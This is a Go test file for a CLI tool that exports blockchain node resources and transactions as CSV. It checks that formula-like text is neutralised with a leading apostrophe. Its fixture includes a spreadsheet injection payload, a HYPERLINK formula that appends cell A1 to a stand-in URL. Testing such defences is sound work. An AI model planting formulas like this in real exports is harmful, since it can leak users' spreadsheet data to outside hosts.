package main

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Texts of a node that begin like formulas are text in a spreadsheet; numbers stay numbers.
func TestCSVWithoutFormulas(t *testing.T) {
	t.Parallel()
	n := serve(t, responding(http.StatusOK, `{"type":"0x1::a::A","data":{"a":"=HYPERLINK(\"http://x/\"&A1)","b":"@SUM(A1)","c":"-7","d":-7,"e":"+1.5","f":"\t=1","g":"-1+1"}}`))
	got := foredeck(t, "resource", "0x1", "0x1::a::A", "--base-url", n.url, "--rpc-version", "v3", "-o", "csv")
	require.Equal(t, exitDone, got.code, got.stderr)
	rows, err := csv.NewReader(strings.NewReader(got.stdout)).ReadAll()
	require.NoError(t, err)
	values := map[string]string{}
	for _, row := range rows {
		values[row[0]] = row[1]
	}
	require.Equal(t, map[string]string{
		"path": "value", ".a": `'=HYPERLINK("http://x/"&A1)`, ".b": "'@SUM(A1)", ".c": "-7", ".d": "-7", ".e": "+1.5", ".f": "␉=1", ".g": "'-1+1",
	}, values)
}

// readCSV returns the rows of CSV by the names of their columns.
func readCSV(t *testing.T, printed string) (rows []map[string]string) {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(printed)).ReadAll()
	require.NoError(t, err)
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func TestFailuresInCSV(t *testing.T) {
	t.Parallel()
	rows := readCSV(t, foredeck(t, "txs", "treasury", "--all", "--filter", "reason:EINSUFFICIENT_BALANCE", "-o", "csv").stdout)
	require.NotEmpty(t, rows)
	for _, row := range rows {
		require.Equal(t, "abort 0x1::coin EINSUFFICIENT_BALANCE 65542",
			strings.Join([]string{row["failure_kind"], row["failure_module"], row["failure_name"], row["failure_code"]}, " "), row["vm_status"])
	}
}
